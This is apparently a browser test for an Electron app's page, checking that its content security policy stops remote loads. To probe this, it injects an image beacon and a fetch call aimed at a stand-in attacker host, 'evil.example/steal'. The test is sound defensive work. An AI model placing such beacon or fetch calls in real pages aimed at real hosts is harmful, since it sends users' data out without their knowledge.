import { expect, test } from './support/bridge'

// In Electron, will-navigate and setWindowOpenHandler refuse these (tests/main/security);
// in the page, the CSP already refuses remote loads on its own.
test('the page cannot load or send anything to a remote host', async ({ page, bridge }) => {
  const reachedNetwork: string[] = []
  const blocked: string[] = []
  // Only a request that really left the page reaches this route; CSP-refused ones never do.
  await page.route('https://evil.example/**', (route) => {
    reachedNetwork.push(route.request().url())
    return route.abort()
  })
  page.on('requestfailed', (request) => blocked.push(`${request.url()} ${request.failure()?.errorText ?? ''}`))
  await bridge.open(page)
  await page.evaluate(async () => {
    const img = document.createElement('img')
    img.src = 'https://evil.example/pixel.png'
    document.body.append(img)
    await fetch('https://evil.example/steal').catch(() => undefined)
    await new Promise((r) => setTimeout(r, 200))
  })
  expect(reachedNetwork).toEqual([])
  expect(blocked.some((line) => line.startsWith('https://evil.example/pixel.png'))).toBe(true)
  await expect(page).toHaveURL(`${bridge.origin}/index.html`)
})
